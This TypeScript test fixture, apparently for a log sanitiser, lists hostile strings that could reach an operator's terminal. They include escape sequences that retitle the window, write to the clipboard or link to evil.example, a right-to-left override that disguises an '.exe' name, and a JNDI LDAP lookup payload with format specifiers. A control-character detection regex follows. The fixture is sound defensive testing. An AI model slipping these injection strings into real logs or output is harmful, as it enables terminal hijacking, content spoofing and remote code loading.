/** Strings that somebody who may write a log line or an annotation could send to an operator's terminal. */
export const hostileStrings: readonly string[] = [
  '\u001b]0;owned by a log line\u0007',
  '\u001b]2;owned title\u001b\\',
  '\u001b]52;c;b3duZWQ=\u0007',
  '\u009d52;c;b3duZWQ=\u009c',
  '\u001b]8;;http://evil.example/\u0007click\u001b]8;;\u0007',
  '\u001b[2J\u001b[H',
  '\u001b[31;41mred\u001b[0m',
  '\u001b[8mhidden\u001b[28m',
  '\u009b31mred',
  '\u001b[10;10Hmoved',
  '\u001b[?1049l',
  '\u001b[?25l',
  '\u001bP+q544e\u001b\\',
  '\u001bc',
  'back\b\b\b\bspace',
  'carriage\rreturn',
  'bell\u0007bell',
  'nul\u0000nul',
  'turned \u202egnp.exe',
  'isolated \u2066text\u2069',
  'zero\u200bwidth\u200djoined',
  'tag \u{e0041}\u{e0042}',
  'separator\u2028next\u2029next',
  `stacked a${'\u0301'.repeat(40)}`,
  'Type checkout, then Enter: checkout\r',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it stands.
  '${jndi:ldap://evil.example/a} %n%s%x',
];

/** All that a terminal obeys and no honest text holds, apart from the line feed that ends a line. */
export const obeyed =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for.
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u{e0000}-\u{e007f}]/u;
